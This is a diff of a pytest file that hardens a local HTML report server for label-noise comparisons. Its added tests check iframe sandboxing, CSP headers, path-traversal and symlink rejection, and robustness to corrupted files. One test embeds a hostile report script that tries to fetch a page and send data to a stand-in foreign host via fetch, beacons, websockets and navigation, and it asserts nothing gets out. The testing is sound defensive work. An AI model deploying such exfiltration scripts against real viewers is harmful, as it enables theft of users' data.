@@ -1,10 +1,17 @@
 """Several comparisons: over label noise, two side by side, and the server that lists them."""
 
 import http.client
+import http.server
 import json
+import os
 import re
+import shutil
+import socket
+import struct
 import threading
+import types
 from collections.abc import Iterator
+from contextlib import contextmanager
 from http.server import ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
@@ -21,7 +28,7 @@ from lossfit.compare.errors import InputError
 from lossfit.compare.report import diff, server
 from lossfit.compare.report import noise as noise_page
 from lossfit.compare.running import label_noise
-from pages import HOSTILE, LEAST_CONTRAST, Page, View
+from pages import DRAWN, HOSTILE, LEAST_CONTRAST, Page, View
 
 NAME = HOSTILE.replace("/", " ")
 
@@ -173,15 +180,23 @@ class TestDiff:
         assert "is a folder; name a file by --out" in " ".join(found.stderr.split())
 
 
-@pytest.fixture(scope="module")
-def running(root: Path) -> Iterator[ThreadingHTTPServer]:
-    served = server.make(root, 0)
+@contextmanager
+def serving(folder: Path) -> Iterator[ThreadingHTTPServer]:
+    served = server.make(folder, 0)
     thread = threading.Thread(target=served.serve_forever, kwargs={"poll_interval": 0.05})
     thread.start()
-    yield served
-    served.shutdown()
-    served.server_close()
-    thread.join()
+    try:
+        yield served
+    finally:
+        served.shutdown()
+        served.server_close()
+        thread.join()
+
+
+@pytest.fixture(scope="module")
+def running(root: Path) -> Iterator[ThreadingHTTPServer]:
+    with serving(root) as served:
+        yield served
 
 
 def ask(running: ThreadingHTTPServer, path: str, method: str = "GET", host: str | None = None) -> tuple[int, str, Any]:
@@ -210,7 +225,17 @@ class TestServe:
         summary = json.loads((root / "below" / "other" / "summary.json").read_text())
         assert diff.wording.answer(summary)[0] in " ".join(Page(text).text.split())
         for link in expected:
-            assert ask(running, link)[0] == 200
+            status, text, headers = ask(running, link)
+            assert status == 200
+            frames = [a for tag, a in Page(text).elements if tag == "iframe"]
+            assert [frame["sandbox"] for frame in frames] == ["allow-scripts"]
+            assert "frame-src 'self'" in headers["Content-Security-Policy"]
+            assert "script-src" not in headers["Content-Security-Policy"]
+            status, text, headers = ask(running, str(frames[0]["src"]))
+            assert status == 200
+            assert headers["Content-Security-Policy"].startswith("sandbox allow-scripts; default-src 'none'; ")
+            assert "form-action 'none'" in headers["Content-Security-Policy"]
+            assert "<table" in text
         assert ask(running, "/", "HEAD")[:2] == (200, "")
 
     def test_a_folder_that_is_a_run(self, root: Path) -> None:
@@ -233,7 +258,8 @@ class TestServe:
             *("/runs/below/other/summary.json", "/runs/below/other/../other/report.html", "/runs/../report.html"),
             *("/runs/unfinished/report.html", "/runs//etc/passwd", "/runs/%2e%2e/report.html", "/etc/passwd"),
             *("/diff", "/diff?first=below/other/", "/diff?first=../&second=below/other/", "/runs/report.html"),
-            "/runs/linked/report.html",
+            *("/runs/linked/report.html", "/view/linked/report.html", "/view/unfinished/report.html"),
+            *("/view/diff", "/runs/diff?first=below/other/", "//[", "/runs/diff?" + "a&" * 50, "/view/", "/runs"),
         ],
     )
     def test_nothing_else_is_served(self, running: ThreadingHTTPServer, root: Path, path: str) -> None:
@@ -244,6 +270,78 @@ class TestServe:
         assert status == 404
         assert text == "There is no such page."
         linked.unlink()
+
+    @pytest.mark.parametrize("name", ["plan.json", "summary.json", "results.parquet", "report.html"])
+    def test_links_in_a_run_are_not_followed(self, root: Path, tmp_path: Path, name: str) -> None:
+        """One bad file, and the other run is served as ever."""
+        for run_name in ("bad", "good"):
+            shutil.copytree(root / "below" / "other", tmp_path / "served" / run_name)
+        path = tmp_path / "served" / "bad" / name
+        path.rename(tmp_path / name)
+        path.symlink_to(tmp_path / name)
+        with serving(tmp_path / "served") as running:
+            links = [a["href"] for tag, a in Page(ask(running, "/")[1]).elements if tag == "a"]
+            assert "/runs/good/report.html" in links
+            assert ("/runs/bad/report.html" in links) == (name in ("plan.json", "results.parquet"))
+            status, text, _ = ask(running, "/view/diff?first=good/&second=bad/")
+            assert status in (404, 422)
+            assert status == 404 or "is a link" in text
+            assert ask(running, "/view/diff?first=good/&second=good/")[0] == 200
+
+    def test_one_bad_file_does_not_take_it_down(
+        self, root: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
+    ) -> None:
+        def spoil_json(path: Path) -> None:
+            path.write_text("[" * 200_000)
+
+        def spoil_pipe(path: Path) -> None:
+            path.unlink()
+            os.mkfifo(path)
+
+        def spoil_size(path: Path) -> None:
+            with path.open("wb") as file:
+                file.truncate(400 << 20)
+
+        bad = [
+            (spoil, name)
+            for spoil in (spoil_json, spoil_pipe, spoil_size)
+            for name in ("plan.json", "summary.json", "results.parquet", "report.html")
+        ]
+        shutil.copytree(root / "below" / "other", tmp_path / "good")
+        shutil.copytree(root / NAME, tmp_path / "noise")
+        spoil_json(tmp_path / "noise" / "noise.json")
+        for i, (spoil, name) in enumerate(bad):
+            shutil.copytree(root / "below" / "other", tmp_path / f"bad{i}")
+            spoil(tmp_path / f"bad{i}" / name)
+        with serving(tmp_path) as running:
+            for _ in range(2):
+                status, text, _ = ask(running, "/")
+                assert status == 200
+                assert "/runs/good/report.html" in text
+                for i in range(len(bad)):
+                    for path in (f"/view/bad{i}/report.html", f"/view/diff?first=good/&second=bad{i}/"):
+                        status, text, _ = ask(running, path)
+                        assert status in (200, 404, 422), text
+                        assert len(text) < 1 << 23
+            assert ask(running, "/view/good/report.html")[0] == 200
+            with socket.create_connection(("127.0.0.1", running.server_port)) as leaving:
+                leaving.sendall(
+                    b"GET /view/good/report.html HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % running.server_port
+                )
+                leaving.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            assert ask(running, "/")[0] == 200
+        assert "Traceback" not in capfd.readouterr().err
+
+    def test_a_browser_leaves_out_the_port_of_the_web(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        with serving(root) as running:
+            assert ask(running, "/", host="127.0.0.1")[0] == 421
+            monkeypatch.setattr(running, "server_port", 80)
+            handler = types.SimpleNamespace(headers={"Host": "localhost"}, server=running, path="/none")
+            sent: list[int] = []
+            handler._send = lambda status, *more: sent.append(int(status))
+            handler._page = lambda: None
+            server._Handler._answer(handler)  # type: ignore[arg-type]
+            assert sent == [404]
 
     def test_only_reading(self, running: ThreadingHTTPServer) -> None:
         assert ask(running, "/", "POST")[0] == 501
@@ -279,37 +377,120 @@ def test_a_browser_goes_through_all_of_it(browser: Any, running: ThreadingHTTPSe
     page = view.page
     start = f"http://127.0.0.1:{running.server_port}/"
 
-    def sound(charts: int) -> None:
-        view.drawn()
-        assert page.evaluate("document.querySelectorAll('.chart svg').length") == charts
-        assert page.evaluate("document.documentElement.scrollWidth") <= width
-        assert "<script>alert" in page.locator("main").inner_text()
-        least, told, _ = page.evaluate(LEAST_CONTRAST)
+    def inside() -> Any:
+        """The page in the frame, drawn."""
+        frame = page.wait_for_selector("iframe").content_frame()
+        frame.wait_for_function(f"document.querySelector('main') && {DRAWN}", timeout=20_000)
+        return frame
+
+    def sound(frame: Any, charts: int) -> None:
+        assert frame.evaluate("document.querySelectorAll('.chart svg').length") == charts
+        assert frame.evaluate("document.documentElement.scrollWidth") <= width
+        assert "<script>alert" in frame.locator("main").inner_text()
+        least, told, _ = frame.evaluate(LEAST_CONTRAST)
         assert least >= 4.5, told
 
+    def text(frame: Any, chart: str) -> str:
+        found: str = frame.evaluate(f"document.getElementById('{chart}').innerText")
+        return found
+
     view.open(start)
-    sound(0)
+    sound(page, 0)
     page.get_by_role("link", name=NAME, exact=True).click()
-    sound(2)
-    before = view.text("means")
+    frame = inside()
+    sound(frame, 2)
+    before = text(frame, "means")
     assert "Focal loss" in before
-    page.locator("[data-state=metric]").select_option("brier")
-    assert "Brier score" in view.changed("means", before)
-    page.locator("details.picker summary").click()
-    page.get_by_label("Focal loss", exact=True).uncheck()
-    page.wait_for_function("!document.getElementById('changes').innerText.includes('Focal loss')")
-    page.get_by_role("link", name="30%").click()
-    page.wait_for_selector("#differences")
-    sound(12)
-    page.goto(start)
+    frame.locator("[data-state=metric]").select_option("brier")
+    frame.wait_for_function(f"document.getElementById('means').innerText !== {before!r}")
+    assert "Brier score" in text(frame, "means")
+    frame.locator("details.picker summary").click()
+    frame.get_by_label("Focal loss", exact=True).uncheck()
+    frame.wait_for_function("!document.getElementById('changes').innerText.includes('Focal loss')")
+    frame.get_by_role("link", name="30%").click()
+    frame.wait_for_selector("#differences")
+    sound(inside(), 12)
+    page.get_by_role("link", name="All comparisons").click()
     page.get_by_label("noise-0 as the first of two").check()
     page.get_by_label("noise-0.3 as the second of two").check()
     page.get_by_role("button", name="Compare the two picked").click()
-    page.wait_for_selector("#changes")
-    sound(1)
-    assert page.url.startswith(f"{start}diff?first=")
-    assert "label noise" in page.locator("main").inner_text()
-    assert page.get_by_label("What differs").evaluate("e => e.scrollWidth <= e.clientWidth")
+    frame = inside()
+    frame.wait_for_selector("#changes")
+    sound(frame, 1)
+    assert page.url.startswith(f"{start}runs/diff?first=")
+    assert "label noise" in frame.locator("main").inner_text()
+    assert frame.get_by_label("What differs").evaluate("e => e.scrollWidth <= e.clientWidth")
     assert view.faults == []
     assert all(request.startswith((start, "data:")) for request in view.requests)
     page.close()
+
+
+HOSTILE_REPORT = """<!DOCTYPE html><title>report</title>
+<a id=away href="FOREIGN/link" style="position:fixed;inset:0">Read on</a>
+<a id=top href="FOREIGN/top" target=_top>top</a>
+<form id=form action="FOREIGN/form" method=get><input name=a value=b></form>
+<img src="FOREIGN/img"><link rel=stylesheet href="FOREIGN/css"><iframe src="FOREIGN/frame"></iframe>
+<script>
+const tries = [
+  () => fetch("OWN/view/good/report.html").then(r => r.text()).then(t => location = "FOREIGN/stolen?" + t.length),
+  () => fetch("FOREIGN/fetch", {mode: "no-cors"}),
+  () => navigator.sendBeacon("FOREIGN/beacon", "x"),
+  () => new WebSocket("FOREIGN/socket".replace("http", "ws")),
+  () => { document.title = parent.document.title + parent.location.href },
+  () => { top.location = "FOREIGN/topscript" },
+  () => { window.open("FOREIGN/window") },
+  () => { document.getElementById("form").submit() },
+  () => { document.getElementById("top").click() },
+  () => { document.cookie = "a=b"; localStorage.a = 1 },
+  () => { location = "FOREIGN/script" },
+];
+const went = tries.map(go => { try { go(); return "went" } catch (error) { return error.name } });
+window.went = went;
+</script>"""
+
+
+@pytest.mark.browser
+def test_a_hostile_report_reads_and_sends_nothing(browser: Any, root: Path, tmp_path: Path) -> None:
+    """It sees no other page, and what it has seen goes nowhere, neither by itself nor after a click."""
+    asked: list[str] = []
+
+    class Foreign(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
+    thread = threading.Thread(target=foreign.serve_forever, kwargs={"poll_interval": 0.05})
+    thread.start()
+    for name in ("bad", "good"):
+        shutil.copytree(root / "below" / "other", tmp_path / name)
+    try:
+        with serving(tmp_path) as running:
+            own = f"http://127.0.0.1:{running.server_port}"
+            report = HOSTILE_REPORT.replace("FOREIGN", f"http://127.0.0.1:{foreign.server_port}").replace("OWN", own)
+            page = browser.new_page()
+            for address, contents in (
+                ("/runs/bad/report.html", report),
+                ("/view/bad/report.html", report),
+                ("/runs/bad/report.html", report.split("<script>")[0]),
+                ("/runs/bad/report.html", report.replace("<title>", '<meta http-equiv=refresh content="0; FOREIGN">')),
+            ):
+                (tmp_path / "bad" / "report.html").write_text(contents)
+                page.goto(own + address)
+                page.wait_for_selector("iframe")
+                page.wait_for_timeout(500)
+                assert page.url == own + address
+                page.mouse.click(300, 200)  # on its link, wherever the frame still shows it
+                page.wait_for_timeout(500)
+                assert page.url == own + address
+                assert len(page.context.pages) == 1
+            page.close()
+    finally:
+        foreign.shutdown()
+        foreign.server_close()
+        thread.join()
+    assert asked == []
